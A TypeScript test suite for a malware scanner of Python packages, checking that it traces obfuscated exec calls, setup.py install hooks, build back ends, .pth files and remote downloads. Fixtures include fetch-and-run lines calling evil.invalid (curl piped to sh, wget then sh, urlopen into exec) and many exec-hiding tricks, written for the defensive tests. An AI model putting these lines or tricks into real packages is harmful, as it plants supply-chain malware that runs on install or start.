import { judgeSources, type SourceJudgement } from '../../src/analysis/judge-sources.js';
import type { Finding } from '../../src/model/finding.js';
import { python } from '../support/loaded-python.js';
import { sourceTree } from '../support/source-tree.js';

const judge = (files: Readonly<Record<string, string>>): SourceJudgement =>
  judgeSources(sourceTree(files), python);
const blocking = (files: Readonly<Record<string, string>>): Finding[] =>
  judge(files).findings.filter(({ severity }) => severity === 'CRITICAL');
const atImport = (...lines: string[]): string[] =>
  blocking({ 'fixture-1.0/pkg/__init__.py': lines.join('\n') }).map(({ rule }) => rule);

const BLOB = 'base64.b64decode("cHJpbnQoMSk=")';

test.each([
  ['an alias', ['import base64', 'e = exec', `e(${BLOB})`]],
  ['a tuple of aliases', ['import base64 as b', 'd, e = b.b64decode, exec', 'e(d("cHJpbnQoMSk="))']],
  ['getattr with a spelled name', ['import base64, builtins', `getattr(builtins, "ex" + "ec")(${BLOB})`]],
  ['globals by index', ['import base64', `globals()["__builtins__"].exec(${BLOB})`]],
  ['eval of a name', ['import base64', `eval("ex" + "ec")(${BLOB})`]],
  ['__import__ of a spelled name', [`exec(__import__("base" + "64").b64decode("cHJpbnQoMSk="))`]],
  [
    'import_module',
    ['import importlib', 'exec(importlib.import_module("base64").b64decode("cHJpbnQoMSk="))'],
  ],
  ['a dict of functions', ['import base64', 't = {"run": exec}', `t["run"](${BLOB})`]],
  ['compile in between', ['import base64', `exec(compile(${BLOB}, "x", "exec"))`]],
  [
    'a helper that decodes',
    ['import base64', 'def d(s):', '    return base64.b64decode(s)', 'exec(d("cHJpbnQoMSk="))'],
  ],
  ['a lambda', ['import base64', 'f = lambda s: base64.b64decode(s)', 'exec(f("cHJpbnQoMSk="))']],
  [
    'a method and its field',
    [
      'import base64',
      'class C:',
      '    def __init__(self): self.b = "cHJpbnQoMSk="',
      '    def go(self): exec(base64.b64decode(self.b))',
      'C().go()',
    ],
  ],
  ['XOR in a comprehension', ['exec("".join(chr(ord(c) ^ 1) for c in "qshou)0("))']],
  ['map over codes', ['exec("".join(map(chr, [112, 114, 105, 110, 116, 40, 49, 41])))']],
  ['bytes of integers', ['exec(bytes([112, 114, 105, 110, 116, 40, 49, 41]).decode())']],
  [
    'a nested layer',
    [
      'import base64',
      'exec(base64.b64decode("ZXhlYyhfX2ltcG9ydF9fKCdiYXNlNjQnKS5iNjRkZWNvZGUoJ2NISnBiblFvTVNrPScpKQ=="))',
    ],
  ],
  [
    'the second of two prepared calls',
    [
      'import base64, functools',
      'def run(call): return call()',
      'run(functools.partial(print, "a"))',
      `run(functools.partial(exec, ${BLOB}))`,
    ],
  ],
  [
    'the second of two texts that are as long and begin alike',
    [
      'import base64',
      'def run(text): exec(text)',
      `run("${'#'.repeat(120)}\\nprint('${'x'.repeat(44)}')")`,
      `run("${'#'.repeat(120)}\\nimport base64; exec(${BLOB.replaceAll('"', "'")})")`,
    ],
  ],
  [
    'the second of two lists that begin alike',
    [
      'import base64',
      'def run(parts): parts[29](parts[28])',
      `run([${'"x", '.repeat(28)}"a", print])`,
      `run([${'"x", '.repeat(28)}${BLOB}, exec])`,
    ],
  ],
  [
    'the second of two tables',
    [
      'import base64',
      'def run(table): table["go"](table["text"])',
      'run({"go": print, "text": "a"})',
      `run({"go": exec, "text": ${BLOB}})`,
    ],
  ],
  [
    'a function given to a thread',
    ['import base64, threading', `def f(): exec(${BLOB})`, 'threading.Thread(target=f).start()'],
  ],
  [
    'an overridden run of a thread',
    [
      'import base64, threading',
      'class T(threading.Thread):',
      `    def run(self): exec(${BLOB})`,
      'T().start()',
    ],
  ],
  [
    'a handler that hides errors',
    ['import base64', 'try:', `    x = ${BLOB}`, 'except Exception:', '    x = ""', 'exec(x)'],
  ],
])('follows %s into exec', (_name, lines) => {
  expect(atImport(...lines)).toContain('decoded-code-executed');
});

test('shows the layer a behaviour was found in', () => {
  // exec('import os; os.system("curl … | sh")') inside base64
  const inner = Buffer.from('import os\nos.system("curl https://evil.invalid/x | sh")').toString('base64');
  const found = blocking({ 'fixture-1.0/setup.py': `import base64\n\nexec(base64.b64decode("${inner}"))` });
  const command = found.find(({ rule }) => rule === 'hostile-command');
  expect(command).toMatchObject({ line: 3, reach: 'install' });
  expect(command?.chain?.at(-1)).toMatchObject({ layer: 1, line: 2, text: 'os.system' });
});

test('reads programs given to a child interpreter', () => {
  expect(
    atImport(
      'import subprocess, sys',
      `subprocess.Popen([sys.executable, "-c", "import base64; exec(${BLOB.replaceAll('"', "'")})"])`,
    ),
  ).toContain('decoded-code-executed');
});

test('follows imports through the package', () => {
  const found = blocking({
    'fixture-1.0/pkg/__init__.py': 'from .core import start\nfrom .words import WORD\nstart(WORD)\n',
    'fixture-1.0/pkg/core.py': 'from .tools import run as r, d\ndef start(w):\n    r(d(w))\n',
    'fixture-1.0/pkg/tools.py': 'import base64\nrun = exec\nd = base64.b64decode\n',
    'fixture-1.0/pkg/words.py': 'WORD = "cHJpbnQoMSk="\n',
  });
  expect(found).toEqual([
    expect.objectContaining({
      rule: 'decoded-code-executed',
      file: 'fixture-1.0/pkg/core.py',
      line: 3,
      reach: 'import',
    }),
  ]);
});

test('runs the commands a setup.py registers, and not the functions nobody calls', () => {
  const text = (body: string): string =>
    [
      'import os',
      'from setuptools import setup',
      'from setuptools.command.install import install',
      body,
    ].join('\n');
  const command = 'os.system("wget https://evil.invalid/x && sh x")';
  const hooked = text(`class I(install):\n    def run(self): ${command}\nsetup(cmdclass={"install": I})`);
  const idle = text(`def helper(): ${command}\nsetup()`);
  expect(blocking({ 'fixture-1.0/setup.py': hooked })).toHaveLength(1);
  expect(blocking({ 'fixture-1.0/setup.py': idle })).toEqual([]);
});

test('a back end in the tree runs at install', () => {
  const files = {
    'fixture-1.0/backend.py': `import base64\ndef build_wheel(a, b=None, c=None):\n    exec(${BLOB})\n`,
  };
  const { findings } = judgeSources(
    sourceTree(files, { buildBackend: 'backend', backendPath: ['.'] }),
    python,
  );
  expect(findings).toContainEqual(
    expect.objectContaining({ rule: 'decoded-code-executed', reach: 'install', severity: 'CRITICAL' }),
  );
});

test('a hook of a back end runs at install, in its class and in its functions', () => {
  const hooks = {
    'hatch_build.py': `from hatchling.builders.hooks.plugin.interface import BuildHookInterface
class Hook(BuildHookInterface):
    def initialize(self, version, build_data):
        exec(__import__("base64").b64decode("cHJpbnQoMSk="))
    def helper(self): pass
`,
    'pdm_build.py':
      'import base64\ndef pdm_build_update_files(context, files):\n    exec(base64.b64decode("cHJpbnQoMSk="))\n',
  };
  for (const [name, source] of Object.entries(hooks)) {
    const tree = sourceTree({ [`fixture-1.0/${name}`]: source }, { buildHooks: [name] });
    expect(judgeSources(tree, python).findings).toContainEqual(
      expect.objectContaining({ rule: 'decoded-code-executed', reach: 'install', severity: 'CRITICAL' }),
    );
  }
});

test('a file that a back end packs into a wheel runs at every start', () => {
  const source = [
    'import zipfile',
    'LINE = "import urllib.request; exec(urllib.request.urlopen(\'https://evil.invalid/x\').read())"',
    'def build_wheel(folder, settings=None, metadata=None):',
    '    with zipfile.ZipFile(folder, "a") as wheel:',
    '        wheel.writestr("own.pth", LINE)',
  ].join('\n');
  const tree = sourceTree(
    { 'fixture-1.0/backend.py': source },
    { buildBackend: 'backend', backendPath: ['.'] },
  );
  expect(judgeSources(tree, python).findings).toContainEqual(
    expect.objectContaining({ rule: 'remote-code-executed', reach: 'start', severity: 'CRITICAL' }),
  );
});

test('a line of a .pth file runs at every start', () => {
  const { findings } = judgeSources(
    sourceTree({ 'x.pth': `# x\nimport base64; exec(${BLOB})\n` }, { kind: 'wheel', folder: 'x.dist-info' }),
    python,
  );
  expect(findings).toContainEqual(
    expect.objectContaining({ rule: 'decoded-code-executed', reach: 'start', file: 'x.pth', line: 2 }),
  );
});

test.each([
  ['a decoded text mixed with a parameter', ['import base64', `def f(p): exec(${BLOB}.decode() + p)`]],
  ['code generated from local templates', ['for n in ("a", "b"):', '    exec("def %s(): pass" % n)']],
  ['a reversed list that is no text', ['for x in [1, 2][::-1]:', '    print(x)']],
  ['a process fed by its caller', ['import subprocess', 'def run(*args): return subprocess.run(args)']],
  [
    'a request to an address from a setting',
    ['import os, requests', 'requests.post(os.environ["SERVICE"], json=dict(os.environ))'],
  ],
])('lets %s pass', (_name, lines) => {
  expect(atImport(...lines)).toEqual([]);
});

test('tests and documentation do not run', () => {
  const text = `import base64\nexec(${BLOB})\n`;
  expect(blocking({ 'fixture-1.0/tests/test_x.py': text, 'fixture-1.0/docs/conf.py': text })).toEqual([]);
});

test('a file with an unusual encoding that runs is unscanned', () => {
  const { unscanned } = judge({ 'fixture-1.0/setup.py': '# coding: utf-7\nx = 1\n' });
  expect(unscanned).toEqual([
    expect.objectContaining({ file: 'fixture-1.0/setup.py', code: 'unusual-encoding' }),
  ]);
});

test('endless work is cut and said', () => {
  const calls = Array.from(
    { length: 30 },
    (_, n) => `def f${n}(a, b): return f${n + 1}(a + b, b) or f${n + 1}(b, a + b)`,
  );
  const loops =
    'for a in range(60):\n for b in range(60):\n  for c in range(60):\n   for d in range(60):\n    x = a + b + c + d\n'.repeat(
      20,
    );
  const { stats, unscanned } = judge({
    'fixture-1.0/setup.py': `${calls.join('\n')}\nf0("x", "y")\n${loops}`,
  });
  expect(stats.parsedFiles).toBe(1);
  expect(unscanned.map(({ code }) => code)).toEqual(['too-complex']);
});

test.each(['constructor', 'toString', 'valueOf', 'hasOwnProperty', '__proto__'])(
  'a Python name that JavaScript objects inherit is a name like any other: %s',
  (name) => {
    const code = [`x = ${name}(1)`, `y = print("a".${name}(x))`, `map(${name}, [1])`, `exec(${BLOB})`];
    expect(atImport('import base64', ...code)).toContain('decoded-code-executed');
  },
);

test.each([
  ['as it came', '', ['download-started']],
  ['after its hash was looked at', 'if hashlib.sha256(data).hexdigest() != RELEASED: raise ValueError()', []],
])('a program fetched from a fixed place and started when asked to, %s', (_how, check, rules) => {
  const code = `
import hashlib, subprocess, urllib.request
RELEASED = "5d41402abc4b2a76b9719d911017c592"
def open_tunnel():
    data = urllib.request.urlopen("https://evil.invalid/tool-1.2").read()
    ${check || 'pass'}
    with open("tool-1.2", "wb") as file: file.write(data)
    return subprocess.Popen(["./tool-1.2", "--listen"])
`;
  expect(atImport(code)).toEqual(rules);
});
